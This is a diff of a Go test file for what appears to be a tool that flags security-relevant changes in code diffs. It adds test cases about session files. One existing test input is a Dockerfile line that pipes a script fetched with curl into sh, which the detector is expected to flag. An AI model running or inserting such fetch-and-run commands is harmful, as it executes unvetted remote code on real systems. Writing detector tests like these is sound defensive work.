@@ -48,6 +48,8 @@ func TestSignals(t *testing.T) {
 		{"exec of another language", "security-call", "a.txt", added("exec.Command(name)"), ""},
 		{"pipe to a shell", "security-call", "Dockerfile", added("RUN curl -s https://x.example/i.sh | sh"), "security/pipe-to-shell Dockerfile:1"},
 		{"auth path", "security-path", "pkg/auth/login.go", added("x"), "security/path pkg/auth/login.go:1"},
+		{"session of cookies", "security-path", "web/session.go", added("c := http.Cookie{}"), "security/path web/session.go:1"},
+		{"session of another kind", "security-path", "rpc/session.go", added("c := dial()"), ""},
 		{"author is not auth", "security-path", "pkg/author/list.go", added("x"), ""},
 		{"imports only", "security-path", "pkg/auth/a.go", "@@ -3,2 +3,2 @@ import (\n-\t\"a/b\"\n-\tx \"a/c\"\n+\t\"a/v2/b\"\n+\tx \"a/v2/c\"", ""},
 		{"imports and more", "security-path", "pkg/auth/a.go", "@@ -3,2 +3,2 @@ import (\n-\t\"a/b\"\n+\t\"a/v2/b\"\n+x()", "security/path pkg/auth/a.go:3"},
